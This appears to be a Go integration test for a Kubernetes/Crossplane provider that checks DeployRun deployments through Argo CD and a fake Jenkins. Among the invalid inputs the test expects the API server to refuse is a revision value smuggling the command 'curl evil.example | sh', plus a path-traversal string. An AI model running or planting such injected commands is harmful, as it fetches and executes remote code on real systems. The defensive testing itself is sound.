/*
Copyright 2026 The provider-devops Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package deployrun_test

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	kerrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/metrics"

	"github.com/crossplane/crossplane-runtime/v2/pkg/controller"
	"github.com/crossplane/crossplane-runtime/v2/pkg/meta"
	xpv2 "github.com/crossplane/crossplane/apis/v2/core/v2"

	argov1alpha1 "github.com/freeleaps/provider-devops/apis/argocd/v1alpha1"
	"github.com/freeleaps/provider-devops/apis/contract"
	dnsv1alpha1 "github.com/freeleaps/provider-devops/apis/dns/v1alpha1"
	jenkinsv1alpha1 "github.com/freeleaps/provider-devops/apis/jenkins/v1alpha1"
	"github.com/freeleaps/provider-devops/apis/v1alpha1"
	"github.com/freeleaps/provider-devops/internal/clients/argocd"
	"github.com/freeleaps/provider-devops/internal/controller/argoapplication"
	"github.com/freeleaps/provider-devops/internal/controller/deployrun"
	"github.com/freeleaps/provider-devops/internal/controller/jenkinspipeline"
	"github.com/freeleaps/provider-devops/internal/controller/mrcontroller"
	"github.com/freeleaps/provider-devops/internal/testing/argocdserver"
	"github.com/freeleaps/provider-devops/internal/testing/controlplane"
	fakejenkins "github.com/freeleaps/provider-devops/internal/testing/jenkins"
)

func TestMain(m *testing.M) { controlplane.Main(m) }

const token = "11aa-deployrun-jenkins-token"

// TestDeployRun takes deployments through a real Argo CD and a fake
// Jenkins whose "executor" (this test) commits what it built to the git
// repository Argo CD reads, as a real pipeline would: a deployment that
// succeeds with its live URL; one queued behind it whose build fails; one
// cancelled while it builds (its build aborted); one whose build reports a
// revision that does not exist (the sync fails); one of an environment
// that does not exist and one naming another namespace's project (both
// fail, touching nothing); a revision that is no git ref (refused by the
// API server); and the history kept to its size.
func TestDeployRun(t *testing.T) {
	env := controlplane.Shared(t)
	s := argocdserver.Shared(t, env)
	jenkins := fakejenkins.New("ci", token)
	defer jenkins.Close()
	ctx := context.Background()
	c := env.Client
	ns := "deployrun"
	appPath := "deploy-shop"
	_, err := s.Apps.Commit(map[string]string{appPath + "/configmap.yaml": configMap("v0")}, "shop v0")
	controlplane.Must(t, err)

	controlplane.Must(t, c.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "deployrun-other"}}))
	var owner *corev1.ConfigMap
	e := createEnvironment(t, c, s, jenkins.URL, ns, "shop", appPath, func(e environment) {
		// The pipeline's controller (a DevOpsProject where a Composition
		// made it; a ConfigMap stands in) becomes each deployment's owner:
		// that patch must not lose the Pending line of the timeline.
		owner = &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "shop-project", Namespace: ns}}
		controlplane.Must(t, c.Create(ctx, owner))
		e.pipeline.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "ConfigMap", Name: owner.Name, UID: owner.UID, Controller: ptr(true)}}
	})
	p, a := e.pipeline, e.app

	controlplane.StartManagerLogging(t, env, 2*time.Second, testLog{t}, func(mgr ctrl.Manager, o controller.Options) error {
		if err := mrcontroller.Setup(mgr, o, jenkinspipeline.Descriptor, jenkinspipeline.NewConnector(mgr.GetClient(), controlplane.TenantGuard(), nil)); err != nil {
			return err
		}
		if err := mrcontroller.Setup(mgr, o, argoapplication.Descriptor, argoapplication.NewConnector(mgr.GetClient(), controlplane.TenantGuard(), nil)); err != nil {
			return err
		}
		return deployrun.Setup(mgr, o, deployrun.Options{Keep: 3, Guard: controlplane.TenantGuard()})
	})
	controlplane.Eventually(t, "pipeline and application ready to deploy", func() bool {
		_ = c.Get(ctx, client.ObjectKeyFromObject(a), a)
		return jenkins.Exists("shop-dev") && a.Status.AtProvider.URL != ""
	})

	run := func(name, revision string) *v1alpha1.DeployRun {
		t.Helper()
		d := &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns}, Spec: v1alpha1.DeployRunSpec{Project: "shop", Environment: "dev", Revision: revision}}
		controlplane.Must(t, c.Create(ctx, d))
		return d
	}
	get := func(d *v1alpha1.DeployRun) *v1alpha1.DeployRun {
		_ = c.Get(ctx, client.ObjectKeyFromObject(d), d)
		return d
	}
	waitPhase := func(d *v1alpha1.DeployRun, phase v1alpha1.DeployPhase) {
		t.Helper()
		controlplane.EventuallyWithin(t, 2*time.Minute, d.Name+" "+string(phase), func() bool { return get(d).Status.Phase == phase })
	}
	defer func() {
		if t.Failed() {
			l := &v1alpha1.DeployRunList{}
			_ = c.List(ctx, l, client.InNamespace(ns))
			for _, d := range l.Items {
				t.Logf("%s: %+v build %+v sync %+v", d.Name, d.Status.Phase, d.Status.Build, d.Status.Sync)
				for _, x := range d.Status.Timeline {
					t.Logf("  %s %s %s", x.At.Format(time.TimeOnly), x.Phase, x.Message)
				}
			}
			_ = c.Get(ctx, client.ObjectKeyFromObject(p), p)
			t.Logf("pipeline %+v %+v; jenkins requests %v", p.Spec.ForProvider.BuildRequest, p.Status, jenkins.Requests())
		}
	}()
	// execute plays the Jenkins executor for the next queued build: it
	// starts it, commits what it "built" and reports the commit.
	execute := func(content, result string) (number int, sha string) {
		t.Helper()
		controlplane.Eventually(t, "a build queued", func() bool { return jenkins.Queued("shop-dev") == 1 })
		jenkins.RunQueue()
		builds := jenkins.Builds("shop-dev")
		number = builds[len(builds)-1].Number
		if content != "" {
			sha, err = s.Apps.Commit(map[string]string{appPath + "/configmap.yaml": configMap(content)}, "shop "+content)
			controlplane.Must(t, err)
			jenkins.SetDescription("shop-dev", number, "built "+content+"\nrevision="+sha)
		}
		jenkins.Finish("shop-dev", result)
		return number, sha
	}

	// 1. A deployment that succeeds; 2. one queued behind it.
	deployments := func() *jenkinsv1alpha1.PipelineDeployments {
		pp := &jenkinsv1alpha1.JenkinsPipeline{}
		_ = c.Get(ctx, client.ObjectKeyFromObject(p), pp)
		return pp.Status.Deployments
	}
	first := run("first", "main")
	waitPhase(first, v1alpha1.DeployBuilding)
	// The running deployment is the environment's current one, on its
	// pipeline (where the composition function reads it).
	controlplane.Eventually(t, "first current on the pipeline", func() bool {
		x := deployments()
		return x != nil && x.Current != nil && x.Current.Name == "first" && x.Current.Phase == "Building" && x.LastSucceeded == nil
	})
	second := run("second", "release-1")
	controlplane.Eventually(t, "second queued behind first", func() bool {
		return strings.Contains(get(second).Status.Message, "queued behind DeployRun first")
	})
	n, sha := execute("v1", "SUCCESS")
	waitPhase(first, v1alpha1.DeploySucceeded)
	if second := get(second); second.Status.Phase == v1alpha1.DeployFailed {
		t.Fatalf("second failed: %s", second.Status.Message)
	}
	d := get(first)
	if d.Status.Build == nil || d.Status.Build.Number != int64(n) || d.Status.Build.Revision != sha || d.Status.Build.Result != "SUCCESS" {
		t.Errorf("build status %+v, want #%d revision %s", d.Status.Build, n, sha)
	}
	if d.Status.Sync == nil || d.Status.Sync.SyncedRevision != sha || d.Status.Sync.Health != "Healthy" {
		t.Errorf("sync status %+v, want synced to %s and Healthy", d.Status.Sync, sha)
	}
	if d.Status.URL != "https://shop-dev.example.test" || !strings.Contains(d.Status.Message, "live at https://shop-dev.example.test") {
		t.Errorf("url %q message %q", d.Status.URL, d.Status.Message)
	}
	var phases []string
	for _, x := range d.Status.Timeline {
		phases = append(phases, string(x.Phase))
	}
	if got := strings.Join(phases, ","); got != "Pending,Building,Deploying,Verifying,Succeeded" {
		t.Errorf("timeline %s", got)
	}
	if len(d.OwnerReferences) != 1 || d.OwnerReferences[0].UID != owner.UID {
		t.Errorf("owners %+v, want the pipeline's controller", d.OwnerReferences)
	}
	builds := jenkins.Builds("shop-dev")
	if got := builds[0].Params.Get("REVISION"); len(builds) < 1 || got != "main" {
		t.Errorf("first build REVISION=%q", got)
	}
	cm := &corev1.ConfigMap{}
	controlplane.Must(t, c.Get(ctx, client.ObjectKey{Namespace: "shop-dev", Name: "shop"}, cm))
	if cm.Data["version"] != "v1" {
		t.Errorf("the application runs %q, want v1", cm.Data["version"])
	}

	controlplane.Eventually(t, "first the last succeeded on the pipeline", func() bool {
		x := deployments()
		return x != nil && x.LastSucceeded != nil && x.LastSucceeded.Name == "first" && x.LastSucceeded.Revision == sha &&
			x.LastSucceeded.URL == "https://shop-dev.example.test" && x.LastSucceeded.FinishedAt != nil
	})

	// 2. The second runs once the first is done; its build fails.
	waitPhase(second, v1alpha1.DeployBuilding)
	execute("", "FAILURE")
	waitPhase(second, v1alpha1.DeployFailed)
	// A failure is no longer current, and not the last success.
	controlplane.Eventually(t, "second off the pipeline, first still the last succeeded", func() bool {
		x := deployments()
		return x != nil && x.Current == nil && x.LastSucceeded != nil && x.LastSucceeded.Name == "first"
	})
	if d := get(second); d.Status.FailedPhase != v1alpha1.DeployBuilding || !strings.Contains(d.Status.Message, "ended FAILURE") || !strings.Contains(d.Status.Message, "console") {
		t.Errorf("second: failed in %s: %s", d.Status.FailedPhase, d.Status.Message)
	}
	if got := jenkins.Builds("shop-dev")[1].Params.Get("REVISION"); got != "release-1" {
		t.Errorf("second build REVISION=%q", got)
	}

	// 3. Cancelled while it builds: the build is aborted, the object goes.
	third := run("third", "main")
	waitPhase(third, v1alpha1.DeployBuilding)
	controlplane.Eventually(t, "third's build queued", func() bool { return jenkins.Queued("shop-dev") == 1 })
	jenkins.RunQueue()
	controlplane.Eventually(t, "third follows its build", func() bool { return get(third).Status.Build.Number == 3 })
	controlplane.Must(t, c.Delete(ctx, third))
	controlplane.Eventually(t, "third gone", func() bool {
		return kerrors.IsNotFound(c.Get(ctx, client.ObjectKeyFromObject(third), &v1alpha1.DeployRun{}))
	})
	if b := jenkins.Builds("shop-dev")[2]; b.Result != "ABORTED" {
		t.Errorf("third's build %+v, want ABORTED", b)
	}
	if x := deployments(); x == nil || x.Current != nil || x.LastSucceeded == nil || x.LastSucceeded.Name != "first" {
		t.Errorf("after cancelling third the pipeline records %+v, want no current and first the last succeeded", x)
	}

	// 4. The build reports a revision Argo CD cannot find: the sync fails.
	fourth := run("fourth", "main")
	waitPhase(fourth, v1alpha1.DeployBuilding)
	controlplane.Eventually(t, "fourth's build queued", func() bool { return jenkins.Queued("shop-dev") == 1 })
	jenkins.RunQueue()
	jenkins.SetDescription("shop-dev", 4, "revision=0123456789abcdef0123456789abcdef01234567")
	jenkins.Finish("shop-dev", "SUCCESS")
	waitPhase(fourth, v1alpha1.DeployFailed)
	if d := get(fourth); d.Status.FailedPhase != v1alpha1.DeployDeploying || !strings.Contains(d.Status.Message, "Argo CD") {
		t.Errorf("fourth: failed in %s: %s", d.Status.FailedPhase, d.Status.Message)
	}
	// Argo CD could not run the sync (phase Error: the commit cannot be
	// fetched): asked for three times, as three operations, then failed.
	if s := get(fourth).Status.Sync; s == nil || s.Attempt != 3 || !strings.Contains(get(fourth).Status.Message, "after 3 attempts") {
		t.Errorf("fourth: sync %+v, message %q: want 3 attempts", s, get(fourth).Status.Message)
	}
	controlplane.Must(t, c.Get(ctx, client.ObjectKey{Namespace: "shop-dev", Name: "shop"}, cm))
	if cm.Data["version"] != "v1" {
		t.Errorf("after a failed sync the application runs %q, want v1 still", cm.Data["version"])
	}

	// 5. An environment that does not exist, and another namespace's
	// project: failed at once, nothing built.
	before := len(jenkins.Builds("shop-dev"))
	nope := &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: "nope", Namespace: ns}, Spec: v1alpha1.DeployRunSpec{Project: "shop", Environment: "prod"}}
	other := &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: "steal", Namespace: "deployrun-other"}, Spec: v1alpha1.DeployRunSpec{Project: "shop", Environment: "dev"}}
	controlplane.Must(t, c.Create(ctx, nope))
	controlplane.Must(t, c.Create(ctx, other))
	waitPhase(nope, v1alpha1.DeployFailed)
	waitPhase(other, v1alpha1.DeployFailed)
	for _, d := range []*v1alpha1.DeployRun{nope, other} {
		if d.Status.FailedPhase != v1alpha1.DeployPending || !strings.Contains(d.Status.Message, "unknown project or environment: no JenkinsPipeline is labelled") {
			t.Errorf("%s: failed in %s: %s", d.Name, d.Status.FailedPhase, d.Status.Message)
		}
	}
	if n := len(jenkins.Builds("shop-dev")) + jenkins.Queued("shop-dev"); n != before {
		t.Errorf("%d builds after deployments to unknown environments, want %d", n, before)
	}
	if x := deployments(); x == nil || x.Current != nil || x.LastSucceeded == nil || x.LastSucceeded.Name != "first" {
		t.Errorf("after failures and another namespace's deployment the pipeline records %+v, want first the last succeeded", x)
	}

	// An environment whose pipeline an ArgoApplication deploys (as a
	// DevOpsProject composes it) waits for it: the build alone is never
	// taken for the deployment.
	qa := p.DeepCopy()
	qa.ObjectMeta = metav1.ObjectMeta{Name: "shop-qa", Namespace: ns, Labels: map[string]string{contract.LabelProject: "shop", contract.LabelEnvironment: "qa"},
		Annotations: map[string]string{contract.AnnotationDeployedBy: "ArgoApplication"}}
	qa.Status = jenkinsv1alpha1.JenkinsPipelineStatus{}
	controlplane.Must(t, c.Create(ctx, qa))
	qaRun := &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: "qa", Namespace: ns}, Spec: v1alpha1.DeployRunSpec{Project: "shop", Environment: "qa"}}
	controlplane.Must(t, c.Create(ctx, qaRun))
	controlplane.Eventually(t, "qa waits for its ArgoApplication", func() bool {
		return strings.Contains(get(qaRun).Status.Message, "waiting for the environment's ArgoApplication")
	})
	if d := get(qaRun); d.Status.Phase != v1alpha1.DeployPending || jenkins.Queued("shop-qa")+len(jenkins.Builds("shop-qa")) != 0 {
		t.Errorf("qa: %s, %d queued, %d built; want Pending and nothing built", d.Status.Phase, jenkins.Queued("shop-qa"), len(jenkins.Builds("shop-qa")))
	}
	controlplane.Must(t, c.Delete(ctx, qaRun))

	// 6. Bad input the API server refuses.
	for name, spec := range map[string]v1alpha1.DeployRunSpec{
		"shell":      {Project: "shop", Environment: "dev", Revision: "main; curl evil.example | sh"},
		"dotdot":     {Project: "shop", Environment: "dev", Revision: "a/../b"},
		"revparam":   {Project: "shop", Environment: "dev", Parameters: map[string]string{"REVISION": "x"}},
		"badproject": {Project: "Shop!", Environment: "dev"},
		"longparam":  {Project: "shop", Environment: "dev", Parameters: map[string]string{"NOTES": strings.Repeat("x", 5000)}},
		// A duration no client could decode would break every typed
		// list of DeployRuns, every namespace's.
		"forever": {Project: "shop", Environment: "dev", Timeouts: v1alpha1.DeployTimeouts{Build: &metav1.Duration{Duration: 400 * time.Hour}}},
	} {
		err := c.Create(ctx, &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: "bad-" + name, Namespace: ns}, Spec: spec})
		if !kerrors.IsInvalid(err) {
			t.Errorf("%s: want the API server to refuse it, got %v", name, err)
		}
	}
	d = get(first)
	d.Spec.Revision = "other"
	if err := c.Update(ctx, d); !kerrors.IsInvalid(err) {
		t.Errorf("changing a DeployRun's revision: want refused, got %v", err)
	}
	d = get(first)
	d.Spec.Timeouts.Verify = &metav1.Duration{Duration: time.Hour}
	if err := c.Update(ctx, d); err != nil {
		t.Errorf("changing a DeployRun's timeouts (a typed round trip): %v", err)
	}

	for _, raw := range []string{"forever", "0s", "-1m"} {
		u := map[string]any{"apiVersion": "devops.freeleaps.io/v1alpha1", "kind": "DeployRun", "metadata": map[string]any{"name": "raw", "namespace": ns},
			"spec": map[string]any{"project": "shop", "environment": "dev", "timeouts": map[string]any{"build": raw}}}
		if err := c.Create(ctx, &unstructured.Unstructured{Object: u}); !kerrors.IsInvalid(err) {
			t.Errorf("timeouts.build %q: want refused, got %v", raw, err)
		}
	}

	// 7. History: 3 kept of each environment's finished deployments. dev
	// has first, second and fourth (third was deleted); a fifth pushes
	// out the oldest, first. prod's one failure is its own history.
	fifth := run("fifth", "main")
	waitPhase(fifth, v1alpha1.DeployBuilding)
	execute("", "FAILURE")
	waitPhase(fifth, v1alpha1.DeployFailed)
	controlplane.Eventually(t, "history pruned to 3 per environment", func() bool {
		l := &v1alpha1.DeployRunList{}
		_ = c.List(ctx, l, client.InNamespace(ns))
		var names []string
		for _, d := range l.Items {
			names = append(names, d.Name)
		}
		return strings.Join(names, ",") == "fifth,fourth,nope,second"
	})

	// 8. An application that syncs itself cannot be deployed at a ref
	// other than its target unless the build reports the commit: refused
	// when the build is done, not after the verify timeout.
	controlplane.Must(t, c.Get(ctx, client.ObjectKeyFromObject(a), a))
	a.Spec.ForProvider.SyncPolicy.Automated = &argov1alpha1.Automated{}
	controlplane.Must(t, c.Update(ctx, a))
	argo, err := argocd.New(argocd.Config{URL: s.URL, Token: s.Token, Namespace: argocdserver.Namespace})
	controlplane.Must(t, err)
	controlplane.Eventually(t, "the application syncs itself", func() bool {
		app, err := argo.Get(ctx, meta.GetExternalName(a))
		return err == nil && app.Spec.SyncPolicy != nil && app.Spec.SyncPolicy.Automated != nil
	})
	sixth := run("sixth", "release-1")
	waitPhase(sixth, v1alpha1.DeployBuilding)
	execute("", "SUCCESS")
	waitPhase(sixth, v1alpha1.DeployFailed)
	if d := get(sixth); d.Status.FailedPhase != v1alpha1.DeployDeploying || !strings.Contains(d.Status.Message, `syncs itself (automated) to its target revision "main", so it cannot be deployed at release-1`) {
		t.Errorf("sixth: failed in %s: %s", d.Status.FailedPhase, d.Status.Message)
	}

	// What an operator's Prometheus reads: the namespace's deployments by
	// outcome, and Jenkins and Argo CD requests counted for it.
	counts := gathered(t, ns)
	for _, series := range []string{
		`provider_devops_deployruns_finished_total{namespace="deployrun",outcome="Succeeded"}`,
		`provider_devops_deployruns_finished_total{namespace="deployrun",outcome="Failed"}`,
		`provider_devops_deployruns_finished_total{namespace="deployrun",outcome="Canceled"}`,
		`provider_devops_backend_requests_total{backend="argocd",config="ProviderConfig",namespace="deployrun",result="ok"}`,
		`provider_devops_backend_requests_total{backend="jenkins",config="ProviderConfig",namespace="deployrun",result="ok"}`,
	} {
		if counts[series] < 1 {
			t.Errorf("%s: %v, want at least 1; the namespace's series: %v", series, counts[series], counts)
		}
	}
}

// gathered are the counters of controller-runtime's registry with a
// namespace label of ns, by their series as Prometheus writes it.
func gathered(t *testing.T, ns string) map[string]float64 {
	t.Helper()
	mfs, err := metrics.Registry.Gather()
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]float64{}
	for _, mf := range mfs {
		for _, m := range mf.GetMetric() {
			if m.GetCounter() == nil {
				continue
			}
			var labels []string
			in := false
			for _, l := range m.GetLabel() {
				labels = append(labels, fmt.Sprintf("%s=%q", l.GetName(), l.GetValue()))
				in = in || l.GetName() == "namespace" && l.GetValue() == ns
			}
			if in {
				out[mf.GetName()+"{"+strings.Join(labels, ",")+"}"] = m.GetCounter().GetValue()
			}
		}
	}
	return out
}

// environment is a project's dev environment ready to deploy.
type environment struct {
	pipeline *jenkinsv1alpha1.JenkinsPipeline
	app      *argov1alpha1.ArgoApplication
	record   *dnsv1alpha1.DNSRecord
}

// createEnvironment creates namespace ns with credentials and a
// ProviderConfig for Argo CD server s and the Jenkins at jenkinsURL, and
// project's dev environment in it: a pipeline with a REVISION parameter,
// an application of appPath in s's repository, and a DNS record whose
// status is set as its controller (which does not run here) would.
// configure, when set, changes the resources before they are created.
func createEnvironment(t testing.TB, c client.Client, s *argocdserver.Server, jenkinsURL, ns, project, appPath string, configure func(environment)) environment {
	t.Helper()
	ctx := context.Background()
	for _, o := range []client.Object{
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}},
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "creds", Namespace: ns}, StringData: map[string]string{
			"argocd": s.Token, "jenkins": `{"username": "ci", "token": "` + token + `"}`}},
		&v1alpha1.ProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: ns}, Spec: v1alpha1.ProviderConfigSpec{
			ArgoCD:  &v1alpha1.ArgoCDConfig{URL: s.URL, Namespace: argocdserver.Namespace, Credentials: secret("argocd")},
			Jenkins: &v1alpha1.JenkinsConfig{URL: jenkinsURL, Credentials: secret("jenkins")},
		}},
	} {
		controlplane.Must(t, c.Create(ctx, o))
	}
	name := project + "-dev"
	labels := map[string]string{contract.LabelProject: project, contract.LabelEnvironment: "dev"}
	e := environment{
		pipeline: &jenkinsv1alpha1.JenkinsPipeline{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels},
			Spec: jenkinsv1alpha1.JenkinsPipelineSpec{ForProvider: jenkinsv1alpha1.JenkinsPipelineParameters{
				Source:     jenkinsv1alpha1.PipelineSource{Script: ptr("node { echo 'build and commit' }")},
				Parameters: []jenkinsv1alpha1.Parameter{{Name: "REVISION", Type: "string", Default: ptr("main")}},
			}}},
		app:    &argov1alpha1.ArgoApplication{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels}},
		record: &dnsv1alpha1.DNSRecord{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels}},
	}
	e.app.Spec.ForProvider = argov1alpha1.ArgoApplicationParameters{
		Source:      argov1alpha1.ApplicationSource{RepoURL: s.Apps.URL, Path: appPath, TargetRevision: "main"},
		Destination: argov1alpha1.ApplicationDestination{Server: argocdserver.InClusterServer, Namespace: name},
		SyncPolicy:  &argov1alpha1.SyncPolicy{SyncOptions: []string{"CreateNamespace=true"}},
	}
	e.record.Spec.ForProvider = dnsv1alpha1.DNSRecordParameters{Zone: "example.test", Name: name, Type: "A", Values: []string{"192.0.2.1"}}
	if configure != nil {
		configure(e)
	}
	ref := &xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "default"}
	e.pipeline.SetProviderConfigReference(ref)
	e.app.SetProviderConfigReference(ref)
	e.record.SetProviderConfigReference(ref)
	for _, o := range []client.Object{e.pipeline, e.app, e.record} {
		controlplane.Must(t, c.Create(ctx, o))
	}
	e.record.Status.AtProvider.FQDN = name + ".example.test."
	controlplane.Must(t, c.Status().Update(ctx, e.record))
	return e
}

func configMap(version string) string {
	return fmt.Sprintf("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: shop\ndata:\n  version: %q\n", version)
}

func secret(key string) v1alpha1.Credentials {
	return v1alpha1.Credentials{Source: xpv2.CredentialsSourceSecret, SecretRef: &v1alpha1.SecretKeySelector{Name: "creds", Key: key}}
}

func ptr[T any](v T) *T { return &v }

// testLog writes the controllers' debug logs to the test's log.
type testLog struct{ t *testing.T }

func (l testLog) Write(p []byte) (int, error) {
	if strings.Contains(string(p), `"controller": "deployrun"`) {
		l.t.Log(strings.TrimSpace(string(p)))
	}
	return len(p), nil
}
